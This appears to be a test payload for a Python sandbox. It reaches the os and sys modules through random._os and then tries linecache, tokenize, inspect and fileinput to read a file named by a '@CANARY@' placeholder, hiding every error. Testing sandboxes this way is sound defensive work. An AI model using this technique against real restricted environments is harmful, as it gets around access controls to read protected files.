# META {"kind": "module-attr", "goal": "canary", "args": [], "slots": {"name": "mallory"}}
import random
def m(self):
    os = random._os
    sys = os.sys
    got = []
    for name, call in (("linecache", "getlines"), ("tokenize", "open"), ("inspect", "getsource"), ("fileinput", "input")):
        try:
            got.append(str(getattr(sys.modules[name], call)("@CANARY@")))
        except BaseException:
            pass
    return "L1:" + str(got)
